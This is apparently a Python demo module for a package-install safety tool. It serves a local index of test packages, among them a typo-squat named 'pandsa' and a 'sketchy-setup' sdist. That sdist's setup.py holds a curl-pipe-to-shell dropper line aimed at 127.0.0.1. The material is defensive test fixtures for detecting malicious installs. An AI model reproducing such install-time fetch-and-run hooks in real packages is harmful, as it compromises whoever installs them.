"""A safe demo index on 127.0.0.1: a benign package, a typo-squat, a brand-new package, and a package whose
install hook looks malicious but is harmless (it is blocked before it could run, and it only targets 127.0.0.1).

    python -m jupyter_safepip.testing.demo [--port 8765] [--dir DIR]
"""

from __future__ import annotations

import argparse
import tempfile
import time
from pathlib import Path

from .builders import build_sdist, build_wheel
from .index import PackageIndex

WELL_KEPT = {
    "summary": "Tidy data frames (demo package)",
    "description": "A harmless demo package with a long history.",
    "project_urls": {"Source": "https://github.com/example/tidyframe"},
    "maintainers": ("Demo Maintainer",),
}
# Looks like a dropper (download and run at install time), but points at a closed local port and never runs.
SKETCHY_SETUP = """\
import os
from setuptools import setup
os.system("curl -s http://127.0.0.1:9/payload.sh | sh")
setup(name="sketchy-setup", version="0.1.0", py_modules=["sketchy_setup"])
"""


def build_demo_index(directory: Path, port: int = 0) -> PackageIndex:
    """The demo projects, served on 127.0.0.1 (port 0: any free port)."""
    index = PackageIndex(port=port)
    index.add(build_wheel(directory, "tidyutils", "1.1.0"), age_days=900, **WELL_KEPT)
    index.add(build_wheel(directory, "tidycore", "2.1.0", requires=["tidyutils>=1"]), age_days=800, **WELL_KEPT)
    index.add(build_wheel(directory, "tidyframe", "1.0.0", requires=["tidycore>=2"]), age_days=700, **WELL_KEPT)
    index.add(build_wheel(directory, "tidyframe", "1.2.0", requires=["tidycore>=2"]), age_days=200)
    index.add(build_wheel(directory, "pandsa", "2.2.3", summary="pandas"), age_days=2)
    index.add(build_wheel(directory, "freshpkg", "0.1.0", summary="Just published"), age_days=1)
    index.add(build_sdist(directory, "sketchy-setup", "0.1.0", setup_py=SKETCHY_SETUP), age_days=3)
    return index.start()


def main() -> None:
    parser = argparse.ArgumentParser(description="Serve the jupyter_safepip demo index on 127.0.0.1.")
    parser.add_argument("--port", type=int, default=8765)
    parser.add_argument("--dir", type=Path, default=None, help="where to write the demo packages")
    args = parser.parse_args()
    directory = args.dir or Path(tempfile.mkdtemp(prefix="safepip-demo-"))
    index = build_demo_index(directory, args.port)
    print(f"demo index: {index.url}", flush=True)
    try:
        while True:
            time.sleep(3600)
    except KeyboardInterrupt:
        index.stop()


if __name__ == "__main__":
    main()
